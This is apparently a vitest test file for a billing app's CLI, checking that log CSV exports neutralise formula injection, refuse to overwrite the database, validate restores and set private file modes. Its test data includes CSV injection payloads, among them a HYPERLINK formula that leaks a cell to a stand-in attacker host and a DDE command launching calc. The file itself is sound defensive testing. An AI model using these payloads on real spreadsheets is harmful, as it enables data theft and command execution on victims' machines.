// Issue #17 items 2, 3, 8 and part of 9: formulas smuggled into the log CSV, exports over the database,
// restores of things that are not a database of this app, file modes, relative paths under `npm run`.
import crypto from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import Database from 'better-sqlite3';
import { beforeAll, describe, expect, it } from 'vitest';
import { backupDatabase } from '../../../main/db/backup';
import { integrityCheck } from '../../helpers/canonical-dump';
import { evidenceDir } from '../support/evidence';
import { recordFigure } from '../support/figures';
import { runCliCaptured } from '../support/run-cli';
import { recountLogCounts } from '../../../main/db/queries/log-writes';

const AREA = 'hardening-files';
let dir: string;
const ENV = { AUTOTASK_SECRET_STORE: 'memory' };

const sha = (file: string) => crypto.createHash('sha256').update(fs.readFileSync(file)).digest('hex');
const mode = (file: string) => fs.statSync(file).mode & 0o777;

/** A migrated database with a hourly rate set and the given log messages (created through the CLI). */
async function makeDb(name: string, messages: string[] = []): Promise<string> {
  const file = path.join(dir, name, 'billing.db');
  fs.mkdirSync(path.dirname(file), { recursive: true });
  expect((await runCliCaptured(['config', 'set', 'hourlyRate', '175.50', '--db', file], ENV)).code).toBe(0);
  const db = new Database(file);
  const insert = db.prepare("INSERT INTO sync_logs (run_id, sync_type, operation, status, message, details, created_at) VALUES (NULL, 'contract', 'error', 'error', ?, '{}', ?)");
  messages.forEach((m, i) => insert.run(m, new Date(Date.UTC(2026, 0, 1, 0, 0, i)).toISOString()));
  recountLogCounts(db);
  db.pragma('wal_checkpoint(TRUNCATE)');
  db.close();
  return file;
}

/**
 * Splits CSV text the way LibreOffice and Excel do: a quote opens a quoted field; outside quotes a comma
 * ends a cell and LF, CR or CRLF ends a row. A bare CR is a row break here — the smuggling vector.
 */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  let i = 0;
  while (i < text.length) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') ((cell += '"'), (i += 2));
      else if (c === '"') ((quoted = false), i++);
      else ((cell += c), i++);
      continue;
    }
    if (c === '"' && cell === '') ((quoted = true), i++);
    else if (c === ',') (row.push(cell), (cell = ''), i++);
    else if (c === '\r' || c === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i += c === '\r' && text[i + 1] === '\n' ? 2 : 1;
    } else ((cell += c), i++);
  }
  if (cell !== '' || row.length) (row.push(cell), rows.push(row));
  return rows;
}

/** What a spreadsheet would run: a cell whose first character starts a formula (a leading NUL is skipped). */
const liveFormula = (cell: string) => /^[\u0000]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell);

beforeAll(() => {
  dir = evidenceDir(AREA);
});

describe('the log CSV carries no live formula', () => {
  it('CR, LF, NUL, tab and formula signs in Autotask texts: quoted, neutralised, no extra rows', async () => {
    const attacks = [
      'x\r=1+1\r=HYPERLINK("http://evil.example/?leak="&A1,"click")',
      'y\r=1+1\r=2*3',
      '\u0000=1+1',
      'ok\n=2+2',
      '\t=3+3',
      '-2+3',
      '+cmd|"/c calc"!A0',
      '@SUM(1,2)',
      '＝1+1',
      'fine, with a "quote"',
      'Café Müller & Söhne',
    ];
    const db = await makeDb('csv', attacks);
    const out = path.join(dir, 'csv', 'logs.csv');
    const r = await runCliCaptured(['export', 'logs', '--out', out, '--db', db], ENV);
    expect(r.code).toBe(0);
    const bytes = fs.readFileSync(out);
    const rows = parseCsv(bytes.toString('utf8').replace(/^\uFEFF/, ''));
    expect(rows[0]!.join(',')).toBe('ID,Sync Type,Operation,Status,Message,Duration (ms),Created At');
    const data = rows.slice(1);
    expect(data).toHaveLength(attacks.length); // nothing smuggled a row in
    const live = data.flat().filter(liveFormula);
    expect(live).toEqual([]);
    for (const row of data) expect(row[0]).toMatch(/^\d+$/); // numbers stay numbers
    const messages = data.map((row) => row[4]!);
    for (const a of attacks) {
      expect(messages).toContain(/^[=+\-@\t\r\u0000＝]/.test(a) ? `'${a}` : a); // text intact, just neutralised
    }
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]); // UTF-8 byte-order mark
    recordFigure(
      'hardening',
      'formula smuggling',
      `${attacks.length} hostile log texts exported: 0 live formulas, 0 extra rows`,
      "CR/LF/NUL quoted; = + - @ tab CR NUL (and full-width) get a leading '; UTF-8 BOM",
    );
  });
});

describe('exports never damage the database', () => {
  it('--out the database, its WAL/SHM, a backup, a symlink or hard link to it: refused, database unchanged', async () => {
    const db = await makeDb('targets', ['a log row']);
    const backups = path.join(path.dirname(db), 'backups');
    fs.mkdirSync(backups, { recursive: true });
    const backup = path.join(backups, 'billing-20260101T000000000Z.db');
    fs.copyFileSync(db, backup);
    const link = path.join(dir, 'targets', 'link.csv');
    fs.symlinkSync(db, link);
    const hard = path.join(dir, 'targets', 'hard.csv');
    fs.linkSync(db, hard);
    const before = sha(db);
    const backupBefore = sha(backup);
    const targets = [db, `${db}-wal`, `${db}-shm`, backup, path.join(backups, 'new.csv'), link, hard];
    for (const target of targets) {
      const r = await runCliCaptured(['export', 'logs', '--out', target, '--db', db], ENV);
      expect(r.code, target).toBe(2);
      expect(r.err, target).toMatch(/nothing was written/);
    }
    expect(sha(db)).toBe(before);
    expect(sha(backup)).toBe(backupBefore);
    expect(fs.lstatSync(link).isSymbolicLink()).toBe(true);
    expect(integrityCheck(db)).toBe('ok');
    recordFigure(
      'hardening',
      'export over the database',
      `${targets.length}/${targets.length} dangerous targets refused, database byte-identical`,
      'database, -wal, -shm, backups folder, symlink and hard link to it',
    );
  });

  it('a new export is 0600, and replacing a 0600 (or 0644) file leaves 0600', async () => {
    const db = await makeDb('modes', ['row']);
    const fresh = path.join(dir, 'modes', 'fresh.csv');
    expect((await runCliCaptured(['export', 'logs', '--out', fresh, '--db', db], ENV)).code).toBe(0);
    expect(mode(fresh)).toBe(0o600);
    const existing = path.join(dir, 'modes', 'existing.csv');
    fs.writeFileSync(existing, 'old', { mode: 0o600 });
    expect((await runCliCaptured(['export', 'logs', '--out', existing, '--db', db], ENV)).code).toBe(0);
    expect(mode(existing)).toBe(0o600);
  });

  it("relative --out and --db resolve against the caller's folder under npm run (INIT_CWD)", async () => {
    const caller = path.join(dir, 'caller');
    fs.mkdirSync(caller, { recursive: true });
    const r1 = await runCliCaptured(['config', 'set', 'hourlyRate', '99', '--db', 'rel.db'], { ...ENV, INIT_CWD: caller });
    expect(r1.code).toBe(0);
    expect(fs.existsSync(path.join(caller, 'rel.db'))).toBe(true);
    const r2 = await runCliCaptured(['export', 'logs', '--out', 'out.csv', '--db', 'rel.db'], { ...ENV, INIT_CWD: caller });
    expect(r2.code).toBe(0);
    expect(fs.existsSync(path.join(caller, 'out.csv'))).toBe(true);
  });
});

describe('restore verifies the backup before replacing anything', () => {
  it('/dev/zero, an empty file, a foreign SQLite file, a truncated backup: refused, database and settings unchanged', async () => {
    const db = await makeDb('restore', ['kept']);
    const before = sha(db);
    const empty = path.join(dir, 'restore', 'empty.db');
    fs.writeFileSync(empty, '');
    const foreign = path.join(dir, 'restore', 'foreign.db');
    const f = new Database(foreign);
    f.exec("CREATE TABLE notes (id INTEGER PRIMARY KEY, text TEXT); INSERT INTO notes (text) VALUES ('hi');");
    f.close();
    const truncated = path.join(dir, 'restore', 'truncated.db');
    fs.writeFileSync(truncated, fs.readFileSync(db).subarray(0, 4096 + 100));
    const sources = ['/dev/zero', empty, foreign, truncated];
    for (const from of sources) {
      const r = await runCliCaptured(['db', 'restore', '--from', from, '--db', db], ENV);
      expect(r.code, from).toBe(1);
      expect(r.err, from).toMatch(/cannot be restored: .*Nothing was changed/);
      expect(r.err).not.toMatch(/Restored/);
    }
    expect(sha(db)).toBe(before);
    const get = await runCliCaptured(['config', 'get', 'hourlyRate', '--db', db], ENV);
    expect(get.out.trim()).toBe('175.50');
    recordFigure(
      'hardening',
      'restore of a non-database',
      `${sources.length}/${sources.length} refused (/dev/zero, empty, foreign SQLite, truncated), settings kept`,
      "integrity_check + this app's tables and migrations before anything is replaced",
    );
  });

  it('a restored database is 0600 whatever the source mode; databases and backups are 0600', async () => {
    const db = await makeDb('restore-mode', ['row']);
    const source = path.join(dir, 'restore-mode', 'world-writable.db');
    fs.copyFileSync(db, source);
    fs.chmodSync(source, 0o666);
    const r = await runCliCaptured(['db', 'restore', '--from', source, '--db', db], ENV);
    expect(r.code, r.err).toBe(0);
    expect(mode(db)).toBe(0o600);
    // A fresh database, and a backup taken by a migration of an old-schema file, are private too.
    const fresh = path.join(dir, 'restore-mode', 'fresh', 'billing.db');
    fs.mkdirSync(path.dirname(fresh), { recursive: true });
    expect((await runCliCaptured(['config', 'get', '--db', fresh], ENV)).code).toBe(0);
    expect(mode(fresh)).toBe(0o600);
    const sqlite = new Database(fresh);
    const backup = backupDatabase(sqlite, { dir: path.join(path.dirname(fresh), 'backups'), prefix: 'billing', keep: 2 });
    sqlite.close();
    expect(mode(backup.file)).toBe(0o600);
  });
});
